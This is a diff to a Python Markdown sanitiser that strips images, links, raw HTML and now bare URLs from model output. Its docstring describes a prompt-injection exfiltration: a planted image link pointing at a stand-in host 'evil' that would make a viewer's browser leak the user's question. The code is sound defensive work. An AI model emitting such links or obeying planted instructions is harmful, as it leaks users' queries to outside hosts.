@@ -2,7 +2,8 @@
 
 A planted ``![x](https://evil/?q=…)`` in a document, echoed by the model, would make the viewer's
 browser fetch that URL and leak the question; raw HTML could do worse. So images become plain
-text, raw HTML is escaped, and links keep their text but lose their target. Linear time.
+text, raw HTML is escaped, links keep their text but lose their target, and bare URLs stay text.
+Linear time.
 """
 
 from __future__ import annotations
@@ -14,6 +15,9 @@ import re
 _IMAGE = re.compile(r"!\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
 _LINK = re.compile(r"(?<!\\)\[([^\]\n]{0,500})\]\([^)\n]{0,2000}\)")
 _REFERENCE_DEFINITION = re.compile(r"^\s{0,3}\[[^\]\n]{1,500}\]:\s*\S+.*$", re.M)
+# Bare ``https://…`` and ``www.…``, which GitHub-flavoured renderers (Streamlit's) turn into links:
+# a backslash escape before the ``:`` or ``.`` keeps the text and stops the autolink.
+_BARE_LINK = re.compile(r"\b(https?|ftps?):(?=//)|\b(www)\.", re.I)
 
 
 def safe_markdown(text: str) -> str:
@@ -21,4 +25,5 @@ def safe_markdown(text: str) -> str:
     text = _IMAGE.sub(lambda m: f"[image: {m.group(1)}]", text)
     text = _LINK.sub(lambda m: m.group(1), text)
     text = _REFERENCE_DEFINITION.sub("", text)
+    text = _BARE_LINK.sub(lambda m: f"{m.group(1)}\\:" if m.group(1) else f"{m.group(2)}\\.", text)
     return text.replace("![", "!\\[")
